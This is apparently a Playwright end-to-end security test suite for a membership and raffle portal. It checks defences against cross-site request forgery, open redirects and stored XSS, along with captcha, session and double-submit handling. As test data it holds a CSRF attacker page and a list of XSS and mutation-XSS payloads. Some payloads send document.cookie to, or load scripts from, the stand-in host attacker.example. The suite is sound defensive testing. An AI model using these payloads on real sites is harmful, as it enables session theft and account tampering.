import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { test } from './fixtures';
import { announcements, raffles } from '#server/db/schema';
import {
  DEMO_PASSCODE,
  MEMBERS,
  enterMobile,
  enterPasscode,
  passSmsWindow,
  signIn,
  solveCaptcha,
} from './auth-helpers';
import { startSeededServer } from './seeded-server';

const ATTACKER_HOST = 'attacker.example';

async function memberDetails(page: Page): Promise<Record<string, unknown>> {
  const answer = await page.request.get('/api/v1/members/me');
  expect(answer.status()).toBe(200);
  return (await answer.json()) as Record<string, unknown>;
}

/** Another loopback address and port: the attacker's site. */
async function startAttackerSite(html: (portal: string) => string, portal: string) {
  const server: Server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(html(portal));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${String(port)}`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const attackerPage = (portal: string) => {
  const target = `${portal}/api/v1/members/me/preferences`;
  const flipped = JSON.stringify({
    smsSubscription: true,
    emailSubscription: true,
    discountsSubscription: true,
    exclusivesSubscription: true,
    creditScoringSubscription: true,
  });
  return `<!doctype html><title>Win a prize</title>
<form id="urlencoded" method="post" action="${target}">
  <input name="smsSubscription" value="true"><input name="exclusivesSubscription" value="true">
</form>
<form id="plain" method="post" enctype="text/plain" action="${target}">
  <input name='${flipped.slice(0, -1)}, "x": "' value='"}'>
</form>
<script>window.flipped = ${JSON.stringify(flipped)};</script>`;
};

test.describe('cross-site requests (SEC-41)', () => {
  test("an attacker's page cannot change preferences with the member's cookie", async ({
    page,
    baseURL,
  }) => {
    const portal = baseURL ?? '';
    await signIn(page, MEMBERS.active);
    const before = await memberDetails(page);
    const attacker = await startAttackerSite(attackerPage, portal);
    const statuses: number[] = [];
    page.context().on('response', (response) => {
      if (response.url().endsWith('/api/v1/members/me/preferences')) {
        statuses.push(response.status());
      }
    });
    try {
      for (const form of ['urlencoded', 'plain']) {
        const tab = await page.context().newPage();
        await tab.goto(attacker.origin);
        const [answer] = await Promise.all([
          tab.waitForResponse((response) =>
            response.url().endsWith('/api/v1/members/me/preferences'),
          ),
          tab.locator(`#${form}`).evaluate((element) => {
            (element as HTMLFormElement).submit();
          }),
        ]);
        expect(answer.status()).toBeGreaterThanOrEqual(400);
        await tab.close();
      }

      await page.goto(attacker.origin);
      const outcomes = await page.evaluate(async (target) => {
        const body = (window as unknown as { flipped: string }).flipped;
        const tries: RequestInit[] = [
          { mode: 'no-cors', headers: { 'content-type': 'text/plain' } },
          { mode: 'cors', headers: { 'content-type': 'application/json' } },
        ];
        return Promise.all(
          tries.map((init) =>
            fetch(target, { ...init, method: 'POST', credentials: 'include', body }).then(
              (response) => response.type,
              () => 'refused',
            ),
          ),
        );
      }, `${portal}/api/v1/members/me/preferences`);
      // The page can read neither answer: the JSON call fails its preflight, and the simple one
      // is opaque at best (the portal's Cross-Origin-Resource-Policy may block it outright).
      for (const outcome of outcomes) expect(['opaque', 'refused']).toContain(outcome);
      await expect.poll(() => statuses.length).toBeGreaterThanOrEqual(2);
      for (const status of statuses) expect(status).toBeGreaterThanOrEqual(400);
    } finally {
      await attacker.close();
    }

    await page.goto('/account');
    expect(await memberDetails(page)).toEqual(before);
  });
});

test.describe('redirect targets on /login (SEC-42)', () => {
  test('an outside ?url= and ?page= end on the portal origin after signing in', async ({
    page,
    baseURL,
  }) => {
    await page.goto(
      `/login?url=${encodeURIComponent('https://evil.example/')}&page=${encodeURIComponent('//evil.example')}`,
    );
    await enterMobile(page, MEMBERS.active);
    await enterPasscode(page, DEMO_PASSCODE);
    await expect(page).toHaveURL(/\/account$/);
    expect(new URL(page.url()).origin).toBe(baseURL);
  });
});

/** Payloads a compromised CMS could store; each would reach the attacker's host if it ran. */
const HOSTILE_CMS = [
  '<p class="cms-marker">Mechanics still shown</p>',
  `<img src=x onerror="fetch('https://${ATTACKER_HOST}/img?'+document.cookie);alert(1)">`,
  `<svg onload="new Image().src='https://${ATTACKER_HOST}/svg';alert(2)"></svg>`,
  `<a href="javascript:fetch('https://${ATTACKER_HOST}/link');alert(3)">Claim your prize</a>`,
  `<a href="java&#x09;script:alert(4)">Mechanics</a>`,
  `<script src="https://${ATTACKER_HOST}/steal.js"></script>`,
  `<iframe src="https://${ATTACKER_HOST}/frame"></iframe>`,
  `<form action="https://${ATTACKER_HOST}/form"><button id="cms-button">Go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://${ATTACKER_HOST}/refresh">`,
  // These two swallow whatever follows them, so they come last.
  `<math><mtext><table><mglyph><style><img src=x onerror="fetch('https://${ATTACKER_HOST}/mxss')">`,
  `<noscript><p title="</noscript><img src=x onerror=fetch('https://${ATTACKER_HOST}/noscript')>">`,
].join('');

test.describe('hostile CMS HTML (SEC-43)', () => {
  test('runs nothing, calls no attacker host and leaves no on* attribute', async ({ page }) => {
    // A server of its own, seeded for this test: past 90 s once beside npm test's other suites.
    test.setTimeout(150_000);
    const server = await startSeededServer(async (db) => {
      await db.update(raffles).set({ description: HOSTILE_CMS });
      await db.update(announcements).set({ body: HOSTILE_CMS, active: true });
    });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const attackerRequests: string[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).hostname === ATTACKER_HOST) attackerRequests.push(request.url());
    });
    await page.route(`**/${ATTACKER_HOST}/**`, (route) => route.abort());
    try {
      await page.goto(`${server.baseURL}/raffle/holiday-raffle-2026`);
      const main = page.getByRole('main');
      const announcement = page.getByRole('region', { name: 'Announcement' });
      await expect(main.locator('.cms-marker')).toHaveText('Mechanics still shown');
      await expect(announcement.locator('.cms-marker')).toHaveText('Mechanics still shown');
      await main.getByText('Claim your prize').click();
      await main.getByText('Mechanics', { exact: true }).click();
      await announcement.getByText('Claim your prize').click();

      const onAttributes = await page.evaluate(() =>
        [...document.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes]
            .filter((attribute) => attribute.name.toLowerCase().startsWith('on'))
            .map((attribute) => `${element.tagName}[${attribute.name}]`),
        ),
      );
      expect(onAttributes).toEqual([]);
      await expect(
        page.locator('script[src*="attacker"], iframe, form[action*="attacker"]'),
      ).toHaveCount(0);
      await expect(page.locator('meta[http-equiv]')).toHaveCount(0);
      const scriptLinks = await page.evaluate(
        () =>
          [...document.querySelectorAll('[href]')].filter((element) =>
            /script:/i.test(element.getAttribute('href') ?? ''),
          ).length,
      );
      expect(scriptLinks).toBe(0);
      await page.waitForTimeout(500);
      expect(dialogs).toEqual([]);
      expect(attackerRequests).toEqual([]);
      await expect(page).toHaveURL(`${server.baseURL}/raffle/holiday-raffle-2026`);
    } finally {
      await server.stop();
    }
  });
});

test.describe('text stays text (SEC-34)', () => {
  test("a name like O'Hara is accepted and an address with <b> is saved and shown as text", async ({
    page,
  }) => {
    await page.goto('/survey/GRSURVEY2026');
    await page.getByLabel('Membership number').fill('8800123400000045');
    await page.getByLabel('First name').fill('Siobhan');
    await page.getByLabel('Last name').fill("O'Hara");
    await page.getByRole('button', { name: 'Submit' }).click();
    await expect(page.getByText('Form Submitted')).toBeVisible();

    await signIn(page, MEMBERS.active);
    const original = (await memberDetails(page)).address;
    const saveAddress = async (text: string) => {
      await page.goto('/account/profile');
      await page.locator('summary', { hasText: 'Address' }).click();
      await page.getByLabel(/^Address/).fill(text);
      await page.getByRole('button', { name: 'Save' }).click();
      await expect(page.getByText('Saved')).toBeVisible();
    };
    try {
      await saveAddress('<b>x</b> 25 Ortigas Avenue');
      expect((await memberDetails(page)).address).toBe('<b>x</b> 25 Ortigas Avenue');
      await page.reload();
      await page.locator('summary', { hasText: 'Address' }).click();
      await expect(page.getByLabel(/^Address/)).toHaveValue('<b>x</b> 25 Ortigas Avenue');
      await expect(page.locator('main b')).toHaveCount(0);
    } finally {
      if (typeof original === 'string') await saveAddress(original);
    }
    expect((await memberDetails(page)).address).toBe(original);
  });
});

test.describe('messages of refused calls', () => {
  test('an expired captcha pass gets "Please complete the captcha again." and sends nothing (SEC-27)', async ({
    page,
    request,
  }) => {
    const mobile = '09181234560';
    await page.goto('/forgot-passcode');
    await page.getByLabel('Mobile number').fill(mobile);
    await solveCaptcha(page);
    // The pass is valid for 2 minutes of server time.
    const moved = await request.post('/api/dev/clock', { data: { seconds: 121 } });
    expect(moved.ok()).toBe(true);
    await page.getByRole('button', { name: 'Continue' }).click();
    await expect(page.getByText('Please complete the captcha again.')).toBeVisible();
    const outbox = await request.get(`/api/dev/outbox?to=${mobile}`);
    expect(await outbox.json()).toEqual([]);
  });

  test('a call after the session has expired says so and leads to login (SEC-37)', async ({
    page,
    request,
  }) => {
    await signIn(page, MEMBERS.active);
    await page.goto('/account/settings');
    const exclusives = page.getByRole('switch', { name: /^Exclusives/ });
    await expect(exclusives).toBeVisible();
    const before = await memberDetails(page);
    // The member changes a preference, and the hour passes with the page open before they confirm.
    await exclusives.click();
    const confirm = page.getByRole('button', { name: 'Confirm my Preferences' });
    await expect(confirm).toBeEnabled();
    const moved = await request.post('/api/dev/clock', { data: { seconds: 3601 } });
    expect(moved.ok()).toBe(true);
    await confirm.click();
    // The dialog stays open across the move to login.
    const dialog = page.getByRole('dialog', { name: 'Error' });
    await expect(dialog).toContainText('Your session has expired. Please log in again.');
    await expect(page).toHaveURL(/\/login\?page=%2Faccount%2Fsettings$/);
    await dialog.getByRole('button', { name: 'Close' }).click();
    await page.goto('/account');
    await expect(page).toHaveURL(/\/login\?page=%2Faccount/);
    await signIn(page, MEMBERS.active);
    expect(await memberDetails(page)).toEqual(before);
  });
});

test.describe('raffle double submit (SEC-49)', () => {
  test('a double click on "Join the Raffle" makes one entry', async ({ page }) => {
    const entries: number[] = [];
    page.on('response', (response) => {
      if (/\/api\/v1\/raffles\/[^/]+\/entries$/.test(response.url())) {
        entries.push(response.status());
      }
    });
    await page.goto('/raffle/holiday-raffle-2026');
    // A tap before the app runs is kept and replayed once it does
    // (docs/decisions/0060-every-tap-counts-from-the-first-paint.md): the choice shows a moment
    // later, so the tap is a click and the check waits for it.
    const yes = page.getByRole('radio', { name: 'Yes' });
    await yes.click();
    await expect(yes).toBeChecked();
    const fill = async () => {
      await page.getByLabel('Membership number').fill('8800123400000037');
      await page.getByLabel('First name').fill('andrea');
      await page.getByLabel('Last name').fill('reyes');
      await page.getByLabel('Birthday').fill('1987-07-30');
      await page.getByLabel('Mobile number (+63)').fill(MEMBERS.expired.slice(1));
      await page.getByLabel('Email').fill('andrea.reyes@example.ph');
      await page.getByLabel('Street address').fill('12 kalayaan avenue');
      await page.getByLabel(/^Province/).selectOption({ label: 'Metro Manila' });
      await page.getByLabel(/^City \/ Municipality/).selectOption({ label: 'Pasig City' });
      await page.getByLabel(/^Barangay/).selectOption({ label: 'San Antonio' });
      await page.getByLabel('Zip code').fill('1605');
      await solveCaptcha(page);
    };
    await fill();
    await page.getByRole('button', { name: 'Join the Raffle' }).dblclick();
    await expect(page.getByText(/You're in!/)).toBeVisible();
    await page.waitForTimeout(500);
    expect(entries.filter((status) => status < 300)).toHaveLength(1);
    expect(entries.filter((status) => status >= 300 && status !== 409)).toEqual([]);

    await fill();
    await page.getByRole('button', { name: 'Join the Raffle' }).click();
    await expect(page.getByText("You've already joined this raffle.")).toBeVisible();
  });
});

test.describe('pages the Content-Security-Policy leaves alone', () => {
  test('/login and a partner page with its map log no "Refused" message', async ({ page }) => {
    const refused: string[] = [];
    page.on('console', (message) => {
      if (/refused/i.test(message.text())) refused.push(message.text());
    });
    await page.goto('/login');
    await expect(page.getByRole('heading', { name: 'Login' })).toBeVisible();
    await page.goto('/partners/bayanihan-mart');
    await expect(page.locator('iframe[title^="Map of"]')).toBeVisible();
    await page.waitForTimeout(1_000);
    expect(refused).toEqual([]);
  });
});

test.afterAll(async ({ request }) => {
  // Numbers used above get their SMS window back for the suites that follow.
  await passSmsWindow(request);
});
